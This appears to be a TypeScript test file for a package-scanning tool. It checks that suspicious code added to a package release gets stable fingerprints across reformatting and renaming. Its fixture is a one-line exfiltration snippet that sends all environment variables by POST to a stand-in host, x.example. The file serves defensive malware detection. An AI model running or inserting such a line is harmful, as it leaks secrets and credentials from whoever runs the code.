import assert from 'node:assert/strict'
import { test } from 'node:test'
import { contentsFrom, library, manifest, with_ } from '../../doors/packages/incidents/incident.ts'
import { measurePackage } from './measure.ts'

const printsOf = (line: string, from: string | null = null): readonly string[] => {
  const base = contentsFrom({ 'package.json': manifest('quiet', '1.0.0'), 'index.js': library })
  const now = contentsFrom({ 'package.json': manifest('quiet', '1.0.1'), 'index.js': with_(line) })
  return measurePackage(now, { baseline: from === null ? null : { kind: 'previous', contents: base, similarity: 1 } })
    .facts.fingerprints
}
const line =
  "const data = process.env; require('https').request({ hostname: 'x.example', method: 'POST' }).end(JSON.stringify(data));"

test('a peer finds the same line in another package, with or without something to compare with', () => {
  const told = printsOf(line, 'baseline')
  assert.ok(told.length >= 2)
  for (const print of told) assert.ok(printsOf(line).includes(print), print)
})

test('laid out anew it is the same; renamed it is the same by its blind print; elsewhere it is another', () => {
  const [exact, blind] = [
    printsOf(line).find((one) => one.startsWith('x:')),
    printsOf(line).find((one) => one.startsWith('b:')),
  ] as [string, string]
  assert.ok(printsOf(line.replaceAll(', ', ',\n   ').replaceAll("'", '"')).includes(exact))
  const renamed = printsOf(line.replaceAll('data', 'q7'))
  assert.ok(!renamed.includes(exact) && renamed.includes(blind))
  const other = printsOf(line.replace('x.example', 'y.example'))
  assert.ok(!other.includes(exact) && !other.includes(blind))
})

test('harmless code leaves none', () => {
  assert.deepEqual(printsOf('module.exports.one = 1;'), [])
})
